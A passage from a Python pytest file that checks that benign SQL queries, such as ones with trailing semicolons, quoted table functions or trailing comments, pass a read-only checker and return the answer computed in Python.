        lambda rows: [(True, len(rows))],  # no event_id is shared by the two writer logs
    ),
    "trailing-semicolon": Legit(
        "SELECT count(DISTINCT agent_id) AS agents FROM events;",
        lambda rows: [(len({r["agent_id"] for r in rows}),)],
    ),
    "quoted-allowed-table-function": Legit(
        'SELECT sum("range") AS s FROM "range"(5)', lambda rows: [(10,)]
    ),
    "trailing-comment-after-semicolon": Legit(
        "SELECT count(*) AS n FROM events; -- how many events?",
        lambda rows: [(len(rows),)],
    ),
}


def legit_params() -> list[Any]:
    params = []
    for name, case in LEGIT.items():
        marks = [pytest.mark.xfail(strict=True, reason=f"BUG: {case.bug}")] if case.bug else []
        params.append(pytest.param(case, id=name, marks=marks))
    return params


@pytest.mark.parametrize("case", legit_params())
def test_legitimate_query_passes_with_the_right_answer(
    site: Site, logical: list[dict[str, Any]], case: Legit
) -> None:
    check_read_only(case.sql)
    result = run_sql(Ledger.open(site.root), case.sql)
    assert not result.truncated
    expected = case.expected(logical)
    assert expected, "the Python answer is empty: the case checks nothing"
    assert _rows(result.table) == expected
